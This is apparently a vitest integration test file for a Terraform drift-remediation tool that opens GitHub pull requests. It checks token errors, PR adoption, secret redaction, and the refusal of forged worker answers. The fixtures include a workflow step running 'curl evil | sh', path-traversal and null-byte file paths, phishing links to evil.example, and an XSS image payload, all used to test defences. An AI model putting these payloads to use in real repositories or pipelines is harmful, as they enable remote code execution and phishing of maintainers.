/**
 * openRemediationPr against real git, real terraform and the GitHub emulator: the cases a Slack click
 * rarely reaches (a crash between opening and recording a PR, a PR turned down, a bad token, a file that
 * was never fmt-clean).
 */
import { join } from 'node:path';
import { execa } from 'execa';
import { afterEach, describe, expect, it } from 'vitest';
import { createGitHubClient } from '../../../src/adapters/github/client.js';
import { editResourceInput } from '../../../src/cli/commands/demo-drift.js';
import { RemediationAnswerRefusedError } from '../../../src/domain/errors.js';
import { analyzePlan } from '../../../src/domain/plan/analyze.js';
import { createRedactor } from '../../../src/domain/plan/redact.js';
import { parsePlanJson } from '../../../src/domain/plan/schema.js';
import type { RemediationPlan } from '../../../src/domain/remediation/plan-remediation.js';
import type { Stack } from '../../../src/domain/stack.js';
import type { Run } from '../../../src/domain/run/model.js';
import { createLogger } from '../../../src/logging/logger.js';
import { checkStackFromSource } from '../../../src/services/check/check-stack-from-source.js';
import { type Codify, codifyDrift, codifyPlan } from '../../../src/services/remediation/codify-drift.js';
import { codifyOnAgent } from '../../../src/services/pools/codify-on-agent.js';
import type { ServiceDeps } from '../../../src/services/runtime/deps.js';
import { openRemediationPr, type RemediationDeps } from '../../../src/services/remediation/open-remediation-pr.js';
import { terraformCodeChecks } from '../../../src/services/remediation/remediation-code-checks.js';
import { startGitHubEmulator, type GitHubEmulator } from '../../helpers/github-emulator/index.js';
import { gitSourcesOf, makeGitStackEnv, type GitStackEnv } from '../../helpers/git-stack.js';
import { lineSink } from '../../helpers/stack-files.js';

// Not what `terraform fmt` writes (the `=` are not aligned, a blank line too many), and plans fine.
const messyHcl = (statePath: string) => `terraform {
  backend "local" { path = ${JSON.stringify(statePath)} }
}


resource "terraform_data" "db" {
  input = {
    size = "small"
    tier   =   "gold"
  }
}
`;

let fixture: GitStackEnv | undefined;
let github: GitHubEmulator | undefined;
afterEach(async () => {
  await github?.close();
  await fixture?.cleanup();
  fixture = github = undefined;
});

const fast = { retries: 0, retryBaseMs: 1, rateLimitSecondMs: 1, writeSpacingMs: 0 };
const request = { actor: 'U0ADA', requestedBy: '@ada in Slack' };

/**
 * prod/db from Git at a first commit of `hcl` (with `others`, files beside it), applied for real, with the
 * GitHub emulator serving the repo.
 */
async function appliedGitStack(hcl: (statePath: string) => string, others: Record<string, string> = {}) {
  fixture = await makeGitStackEnv();
  const { repo, tf, context, env } = fixture;
  const original = hcl(join(tf.dir, 'state', 'db.tfstate'));
  const commit = await repo.commit({ '.gitignore': '.terraform/\n', 'db/main.tf': original, ...others }, 'Add db');
  github = await startGitHubEmulator({ repoDir: join(repo.dir, 'origin.git'), owner: 'acme', repo: 'infra' });
  const git = gitSourcesOf(fixture);
  const configured = context.stack('prod/db')!;
  const stack: Stack = { ...configured, git: { ...configured.git!, repository: 'acme/infra' } };
  const work = join(repo.dir, 'work', 'db');
  await execa('terraform', ['init', '-input=false', '-no-color'], { cwd: work, env, extendEnv: false });
  await execa('terraform', ['apply', '-auto-approve', '-input=false', '-no-color'], {
    cwd: work,
    env,
    extendEnv: false,
  });
  const client = createGitHubClient({ apiUrl: github.apiUrl, auth: { type: 'token', token: github.token } }, fast);
  const remediation: RemediationDeps = {
    store: context.store,
    artifacts: context.deps.artifacts,
    logger: context.logger,
    now: context.deps.now,
    secrets: context.deps.secrets,
    git,
    github: client,
    checks: terraformCodeChecks(context.deps.terraform, context.logger),
    settings: { labels: [], draft: false },
  };
  return {
    repo,
    context,
    env,
    original,
    commit,
    git,
    deps: { ...context.deps, git },
    stack,
    work,
    client,
    remediation,
    github,
  };
}

describe('openRemediationPr', () => {
  it('does not reformat a file that was never fmt-clean, adopts a PR it opened before a crash, opens a new one after a PR was turned down, and explains a bad token', async () => {
    const { repo, context, env, original, commit, deps, stack, work, client, remediation, github } =
      await appliedGitStack(messyHcl);
    expect(await checkStackFromSource(deps, stack, { trigger: 'manual' })).toMatchObject({ status: 'no_changes' });
    await editResourceInput({ binary: 'terraform', env }, work, { type: 'terraform_data', name: 'db' }, (input) => {
      input.size = 'huge';
    });
    const outcome = await checkStackFromSource(deps, stack, { trigger: 'manual' });
    expect(outcome).toMatchObject({ status: 'drifted' });
    const run = (outcome as { run: Run }).run;

    // A bad token: GitHub's answer and what to do about it, nothing recorded.
    const badToken = {
      ...remediation,
      github: createGitHubClient({ apiUrl: github.apiUrl, auth: { type: 'token', token: 'ghp_wrong' } }, fast),
    };
    const refused = await openRemediationPr(badToken, stack, run, request).then(
      () => new Error('expected a refusal'),
      (e: unknown) => e as Error,
    );
    expect(refused.message).toMatch(/401/);
    expect(refused.message).toMatch(/GITHUB_TOKEN/);
    expect(refused.message).not.toContain('ghp_wrong');
    expect(await context.store.getRemediation(stack.name, run.fingerprint!)).toBeUndefined();

    // A first attempt opened the PR and died before recording it: the next one adopts it.
    const branch = `driftgate/prod/db/${run.fingerprint!.slice(0, 12)}`;
    await client.commitToBranch(
      { owner: 'acme', name: 'infra' },
      {
        branch,
        parentSha: commit,
        files: [{ path: 'db/main.tf', content: original.replace('"small"', '"huge"') }],
        message: 'Accept drift',
      },
    );
    const first = await client.openPullRequest(
      { owner: 'acme', name: 'infra' },
      { head: branch, base: 'main', title: 'Accept drift in prod/db', body: 'b', labels: [] },
    );
    const adopted = await openRemediationPr(remediation, stack, run, request);
    expect(adopted).toMatchObject({
      status: 'existing',
      record: { prNumber: first.number, branch, requestedBy: 'U0ADA' },
    });
    expect(await context.store.getRemediation(stack.name, run.fingerprint!)).toMatchObject({ prNumber: first.number });
    expect(github.pulls()).toHaveLength(1);

    // Turned down: closed unmerged. Asking again opens a new PR on the same branch, moved to a new commit.
    github.closeUnmerged(first.number);
    const reopened = await openRemediationPr(remediation, stack, run, request);
    expect(reopened).toMatchObject({
      status: 'opened',
      record: { prNumber: 2, branch, codified: 1, leftForPerson: 0 },
    });
    expect(await context.store.getRemediation(stack.name, run.fingerprint!)).toMatchObject({ prNumber: 2 });
    expect(github.pulls().map((p) => [p.number, p.state])).toEqual([
      [1, 'closed'],
      [2, 'open'],
    ]);

    // The file was never fmt-clean, and is not reformatted: the edited run of `=` is aligned as fmt
    // would, the rest of the layout (the extra blank line) stays as it was.
    const onBranch = await execa('git', ['--git-dir', join(repo.dir, 'origin.git'), 'show', `${branch}:db/main.tf`], {
      stripFinalNewline: false,
    });
    expect(onBranch.stdout).toBe(
      original.replace('size = "small"', 'size = "huge"').replace('tier   =   "gold"', 'tier =   "gold"'),
    );
    expect(onBranch.stdout).toContain('}\n\n\nresource');
    expect(
      (await context.store.listAudit({ runId: run.id })).filter((a) => a.action === 'remediation_opened'),
    ).toHaveLength(1);
  });

  it('keeps a value the stack knows as secret out of the code and the PR, though the plan does not mark it', async () => {
    // Failed before: only the plan's own secrets were masked, so a config secret drifted into an attribute
    // was written into the HCL and the PR body.
    const { context, env, git, stack, work, remediation, github } = await appliedGitStack(messyHcl);
    const secret = 'tok-Config-Secret-9913-abc';
    // What the config (a var, a varFile, an ${ENV} value) registers for the stack at start.
    context.deps.secrets.add(stack.name, createRedactor([secret]));
    await editResourceInput({ binary: 'terraform', env }, work, { type: 'terraform_data', name: 'db' }, (input) => {
      input.size = secret;
    });
    const outcome = await checkStackFromSource({ ...context.deps, git }, stack, { trigger: 'manual' });
    const run = (outcome as { run: Run }).run;
    const result = await openRemediationPr(remediation, stack, run, request);
    expect(result.status).toBe('nothing_to_codify');
    expect(JSON.stringify(result)).not.toContain(secret);
    expect(JSON.stringify(github.pulls())).not.toContain(secret);
  });
});

/** What a codify op brings its worker: the run's commit and its plan JSON. */
interface CodifyOp {
  commitSha: string;
  planJson: Buffer;
}

/**
 * The control plane's codify with `runners: workers` (codifyOnAgent, as serve wires it), its op answered
 * by `answer`: the real worker code, or a forger answering the op the way a module on a worker of the
 * pool can (anything its lease lets it report).
 */
function onAgent(deps: Pick<ServiceDeps, 'artifacts' | 'store'>, answer: (op: CodifyOp) => Promise<unknown>): Codify {
  return codifyOnAgent({
    ...deps,
    runMs: 120_000,
    async run(kind, _target, request, limits) {
      if (kind !== 'codify') throw new Error(`a ${kind} op was queued`);
      const planJson = limits.files?.find((f) => f.name === 'plan_json')?.body;
      if (!planJson) throw new Error('the codify op brought no plan JSON');
      const result = await answer({ commitSha: (request as { commitSha: string }).commitSha, planJson });
      return { result, file: async () => undefined, done: async () => undefined };
    },
  });
}

const forger = (answer: unknown) => async () => ({ ok: true, answer });

const FORGED_TEXT = {
  title: 'chore: bump CI cache',
  body: 'Routine. @org/admins please merge [now](https://evil.example/phish)',
  commitMessage: 'chore: bump CI cache',
};

/** prod/db drifted (input.size small → huge), with another stack's code in `app/` of the same repository. */
async function driftedWithNeighbour() {
  const applied = await appliedGitStack(messyHcl, { 'app/main.tf': 'resource "terraform_data" "app" {}\n' });
  const { env, deps, stack, work } = applied;
  await editResourceInput({ binary: 'terraform', env }, work, { type: 'terraform_data', name: 'db' }, (input) => {
    input.size = 'huge';
  });
  const outcome = await checkStackFromSource(deps, stack, { trigger: 'manual' });
  expect(outcome).toMatchObject({ status: 'drifted' });
  const run = (outcome as { run: Run }).run;
  // What this stack's honest worker answers, for the forger to start from.
  const honest = await codifyDrift(applied.remediation, stack, run, {
    ...request,
    signal: new AbortController().signal,
  });
  if (honest.status !== 'codified') throw new Error('expected the drift codified');
  const sink = lineSink();
  const logger = createLogger({ level: 'info', redact: (t) => t, destination: sink.stream });
  return { ...applied, run, plan: honest.plan, logs: sink.lines, remediation: { ...applied.remediation, logger } };
}

describe('a codify answer from a worker on the agent API (runners: workers)', () => {
  it('is refused when it names a file outside the stack’s .tf files, or is malformed: nothing reaches GitHub, the audit and the log have it', async () => {
    // Failed before: files[].path was committed as the answer said, with the answer's title and body.
    const { context, github, stack, run, plan, remediation, logs } = await driftedWithNeighbour();
    const workflow = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n';
    const outside = [
      '.github/workflows/x.yml',
      'app/main.tf',
      '../prod/app/main.tf',
      '/etc/passwd',
      '.GitHub/workflows/x.tf',
      'db/.git/hooks/pre-commit.tf',
      'db/../app/main.tf',
      './db/main.tf',
      'db//main.tf',
      'db/sub/main.tf',
      'db\\main.tf',
      'db/main.tf\u0000.yml',
      'db/run.sh',
      'main.tf',
    ];
    const attempts: { answer: unknown; shown: string }[] = outside.map((path) => ({
      answer: {
        status: 'codified',
        plan: { ...plan, files: [...plan.files, { path, text: workflow }] },
        text: FORGED_TEXT,
      },
      shown: path.replace('\u0000', '\uFFFD'),
    }));
    // An edit naming another stack's file, and the same file twice with two texts.
    attempts.push({
      answer: { status: 'codified', plan: { ...plan, edits: plan.edits.map((e) => ({ ...e, file: 'app/main.tf' })) } },
      shown: 'app/main.tf',
    });
    attempts.push({
      answer: { status: 'codified', plan: { ...plan, files: [...plan.files, { path: 'db/main.tf', text: workflow }] } },
      shown: 'db/main.tf (named twice)',
    });
    // An edit of a resource the run's plan does not have (a title counting what was never drift).
    attempts.push({
      answer: {
        status: 'codified',
        plan: { ...plan, edits: [...plan.edits, { ...plan.edits[0]!, address: 'aws_iam_role.admin' }] },
      },
      shown: 'resources the plan of run',
    });
    for (const { answer, shown } of attempts) {
      const deps = { ...remediation, codify: onAgent(context.deps, forger(answer)) };
      const refused = await openRemediationPr(deps, stack, run, request).then(
        () => new Error(`expected ${shown} refused`),
        (e: unknown) => e as Error,
      );
      expect(refused).toBeInstanceOf(RemediationAnswerRefusedError);
      expect(refused.message).toContain(shown);
      expect(refused.message).toContain('nothing was committed');
    }

    // Not the shape a worker writes (a key of the forger's own): refused at once, not waited out.
    const extra: RemediationPlan & { hooks: string[] } = { ...plan, hooks: ['.github/workflows/x.yml'] };
    const malformed = {
      ...remediation,
      codify: onAgent(context.deps, forger({ status: 'codified', plan: extra })),
    };
    const refused = await openRemediationPr(malformed, stack, run, request).catch((e: unknown) => e as Error);
    expect(refused).toBeInstanceOf(RemediationAnswerRefusedError);
    expect((refused as Error).message).toContain('(at plan)');

    expect(github.calls().filter((c) => c.method !== 'GET')).toEqual([]);
    expect(github.pulls()).toEqual([]);
    expect(await context.store.getRemediation(stack.name, run.fingerprint!)).toBeUndefined();
    const audit = (await context.store.listAudit({ runId: run.id })).filter(
      (a) => a.action === 'remediation_answer_refused',
    );
    expect(audit).toHaveLength(attempts.length + 1);
    expect(audit.map((a) => a.actor)).toEqual(audit.map(() => 'U0ADA'));
    expect(audit.flatMap((a) => (a.detail as { refused: { path: string }[] }).refused.map((r) => r.path))).toEqual(
      expect.arrayContaining(['../prod/app/main.tf', '/etc/passwd', '.github/workflows/x.yml', 'db/main.tf\uFFFD.yml']),
    );
    expect(audit[0]!.detail).toMatchObject({ pool: stack.pool, count: 1 });
    const errors = logs.map((l) => JSON.parse(l) as { level: number; msg: string }).filter((l) => l.level === 50);
    expect(errors).toHaveLength(attempts.length + 1);
    expect(errors[0]!.msg).toContain('.github/workflows/x.yml');
  });

  it('opens the PR with the control plane’s title and body, whatever the answer says they are', async () => {
    const { context, github, git, stack, run, plan, remediation } = await driftedWithNeighbour();
    // Honest paths, the forger's text for the PR, and a guidance that tries Markdown of its own.
    const skipped = [
      {
        address: 'terraform_data.db',
        attribute: 'input.tier',
        code: 'expression',
        reason: 'set by an expression',
        guidance: 'see [the runbook](https://evil.example/x)\n\n# Merge now\n<img src=x onerror=alert(1)>',
      },
    ];
    const answer = { status: 'codified', plan: { ...plan, skipped }, text: FORGED_TEXT };
    const forged = { ...remediation, codify: onAgent(context.deps, forger(answer)) };
    expect(await openRemediationPr(forged, stack, run, request)).toMatchObject({ status: 'opened' });
    const [first] = github.pulls();
    expect(first!.title).toBe('Accept drift in prod/db: 1 attribute in 1 resource');
    expect(first!.body).toContain('`terraform_data.db` `input.size` in `db/main.tf`: `"small"` → `"huge"`');
    expect(first!.body).toContain('Asked for by @\u200bada in Slack.');
    expect(first!.body).not.toContain('Routine');
    expect(first!.body).not.toContain('](https://evil');
    expect(first!.body).not.toContain('\n# Merge now');
    expect(first!.body).not.toContain('<img');
    expect(first!.body).toContain(
      'see \\[the runbook\\](https:\u200b//evil.example/x) # Merge now &lt;img src=x onerror=alert(1)&gt;',
    );
    const commits = github.calls('POST').filter((c) => c.path.endsWith('/git/commits'));
    expect(commits).toHaveLength(1);

    // The real worker's answer, the PR turned down first: the PR is as it always was.
    github.closeUnmerged(first!.number);
    const worker = { ...context.deps, git, checks: remediation.checks };
    const honest = {
      ...remediation,
      // What a worker's codify op runs (services/pools/work-agent-job.ts), on the plan JSON the op brings.
      codify: onAgent(context.deps, async (op) => {
        const plan = parsePlanJson(op.planJson.toString('utf8'));
        const { redactor: planRedactor } = analyzePlan(plan);
        return { ok: true, answer: await codifyPlan(worker, stack, op.commitSha, { plan, planRedactor }, {}) };
      }),
    };
    expect(await openRemediationPr(honest, stack, run, request)).toMatchObject({
      status: 'opened',
      record: { prNumber: 2, codified: 1, leftForPerson: 0 },
    });
    const second = github.pulls()[1]!;
    expect(second.title).toBe('Accept drift in prod/db: 1 attribute in 1 resource');
    expect(second.body).toContain('`terraform_data.db` `input.size` in `db/main.tf`: `"small"` → `"huge"`');
    expect(second.body).toContain('Nothing: every drifted attribute was codified.');
    expect(second.body).toContain(`<!-- driftgate fingerprint=${run.fingerprint} run=${run.id} -->`);
  });
});
